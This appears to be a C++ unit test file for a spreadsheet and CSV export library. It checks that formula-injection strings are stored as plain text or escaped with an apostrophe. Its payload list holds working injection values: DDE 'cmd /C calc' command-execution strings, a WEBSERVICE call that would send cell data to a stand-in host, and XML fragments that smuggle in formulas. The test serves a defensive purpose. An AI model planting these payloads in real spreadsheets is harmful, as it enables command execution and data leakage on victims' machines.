// SPDX-License-Identifier: Apache-2.0
/// What would be calculated, run or linked if a spreadsheet believed it: written, it is only text.
#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>

#include "platform/exchange/csv_writer.hpp"
#include "platform/exchange/workbook.hpp"
#include "platform/exchange/zip_parts.hpp"

namespace exchange {
namespace {
std::vector<std::string> payloads() {
  using namespace std::string_literals;
  std::vector<std::string> all;
  for (const auto& sign : {"="s, "+"s, "-"s, "@"s, "\t="s, "\r="s, "\0="s, "＝"s, "＋"s, "－"s,
                           "＠"s, " ="s, "\n="s, "\""s})
    for (const auto& rest :
         {"1+1"s, "SUM(A1:A9)"s, "cmd|' /C calc'!A0"s, "HYPERLINK(\"http://a.example\",\"点\")"s,
          "WEBSERVICE(\"http://a.example/\"&A1)"s, "IMPORTXML(\"http://a.example\",\"//a\")"s,
          "DDE(\"cmd\";\"/C calc\";\"x\")"s, "2+5+cmd|' /C calc'!A0"s, "A1"s, "INDIRECT(\"A1\")"s,
          "</t></is></c><c><f>1+1</f></c>"s, "<f>1+1</f>"s, "&#61;1+1"s, "_x003D_1+1"s, "{=1+1}"s})
      all.push_back(sign + rest);
  return all;
}

std::string content_of(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

std::string part(ZipParts& parts, const std::string& name) {
  auto stream = parts.stream(name);
  if (!stream) return {};
  std::string text, buffer(65'536, '\0');
  for (;;) {
    const auto size = stream->read(buffer.data(), buffer.size());
    if (!size || *size == 0) return text;
    text.append(buffer, 0, *size);
  }
}

TEST(Payloads, AreTextInEveryCellThatIsWritten) {
  const auto all = payloads();
  ASSERT_LE(200u, all.size());
  const char* kept = std::getenv("LINLI_KEPT_SHEET");  // for a look by other programs
  const auto file = kept ? std::filesystem::path(kept)
                         : std::filesystem::temp_directory_path() /
                               ("linli-payloads-" + std::to_string(::getpid()) + ".xlsx");
  WorkbookWriter writer(file);
  writer.add_sheet("=1+1");
  for (std::size_t i = 0; i < all.size(); ++i) {
    writer.write(int(i) + 1, 0, all[i]);
    writer.write(int(i) + 1, 1, all[i], Mark::heading);
  }
  writer.finish();
  const auto bytes = content_of(file);
  if (!kept) std::filesystem::remove(file);

  auto parts = ZipParts::open(std::as_bytes(std::span(bytes)), Limits());
  ASSERT_TRUE(parts.has_value());
  const auto sheet = part(*parts, "xl/worksheets/sheet1.xml");
  EXPECT_EQ(std::string::npos, sheet.find("<f>"));
  EXPECT_EQ(std::string::npos, sheet.find("<f "));
  EXPECT_EQ(std::string::npos, sheet.find("<hyperlink"));
  std::size_t typed = 0;
  for (auto at = sheet.find("t=\"inlineStr\""); at != std::string::npos;
       at = sheet.find("t=\"inlineStr\"", at + 1))
    ++typed;
  EXPECT_EQ(2 * all.size(), typed);

  const auto opened = open(std::as_bytes(std::span(bytes)));
  ASSERT_TRUE(opened.has_value());
  std::size_t same = 0;
  const auto visited = opened->visit(0, [&](const Row& row) {
    auto wanted = all[std::size_t(row.number) - 1];
    // What XML cannot hold is shown as the mark of a lost letter.
    if (const auto at = wanted.find('\0'); at != std::string::npos)
      wanted.replace(at, 1, "\xEF\xBF\xBD");
    for (const auto& cell : row.cells) same += cell.text == wanted;
    return Visit::go_on;
  });
  ASSERT_TRUE(visited.has_value());
  EXPECT_EQ(2 * all.size(), same);
}

TEST(Payloads, BearAnApostropheInCsvWhereTheyCouldBeCalculated) {
  for (const auto& payload : payloads()) {
    const auto line = csv_line(std::vector{payload});
    const auto first = line.find_first_not_of('"');
    const bool is_harmless = payload.starts_with('"');
    EXPECT_EQ(!is_harmless, line.substr(first, 1) == "'") << line;
  }
}
}  // namespace
}  // namespace exchange
